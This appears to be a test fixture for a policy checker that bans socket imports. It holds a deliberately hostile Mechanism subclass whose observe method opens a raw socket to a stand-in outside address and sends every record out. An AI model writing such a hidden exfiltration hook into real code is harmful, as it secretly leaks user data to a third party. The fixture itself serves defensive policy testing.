# expect: policy import-not-allowed: socket
# why: a raw socket to send data out
# ruff: noqa  (deliberately hostile code: data for the policy, never run)
import socket
from core.mechanism import Mechanism


class Leak(Mechanism):
    def observe(self, record):
        s = socket.create_connection(('203.0.113.9', 443))
        s.sendall(repr(record).encode())
